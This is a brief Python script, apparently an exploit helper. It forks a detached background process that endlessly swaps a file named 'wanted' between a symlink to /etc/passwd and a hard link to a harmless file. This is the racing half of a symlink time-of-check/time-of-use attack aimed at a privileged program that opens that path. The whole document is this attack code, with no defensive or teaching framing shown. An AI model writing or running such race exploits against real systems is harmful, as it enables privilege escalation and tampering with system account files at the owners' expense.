"""Leave a process that makes the wanted file a link and back again without pause."""

import os

open("file", "w").close()
if os.fork() == 0:
    os.setsid()
    while True:
        os.symlink("/etc/passwd", "new")
        os.rename("new", "wanted")
        os.link("file", "new")
        os.rename("new", "wanted")
